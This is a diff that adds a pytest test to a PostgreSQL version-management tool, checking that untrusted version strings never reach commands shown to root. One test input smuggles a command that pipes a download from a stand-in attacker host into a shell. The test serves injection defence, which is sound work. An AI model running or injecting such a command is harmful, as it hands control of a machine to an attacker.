@@ -81,6 +81,19 @@ def test_a_warehouse_whose_version_is_gone_is_one_line_that_names_the_package(ma
     assert Artifacts(Path()).postgres_version(machine.data) == "not installed"
 
 
+@pytest.mark.parametrize(
+    "written", ["15; curl evil.example | sh #", "15 evil", "9.6.24", "\u0661\u0665", "15\\x1b[2J", "/"]
+)
+def test_what_the_servers_account_writes_for_a_version_is_in_no_command_that_root_is_told(
+    machine: Machine, written: str
+) -> None:
+    machine.holds(written)
+    with pytest.raises(TerminalError, match=r"^PostgreSQL is not installed: apt-get install postgresql$"):
+        Artifacts(Path()).postgres(machine.data)
+    newest = machine.install("17.2")
+    assert Artifacts(Path()).postgres(machine.data) == newest
+
+
 def test_the_next_start_links_the_program_of_the_stored_version(
     machine: Machine, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
 ) -> None:
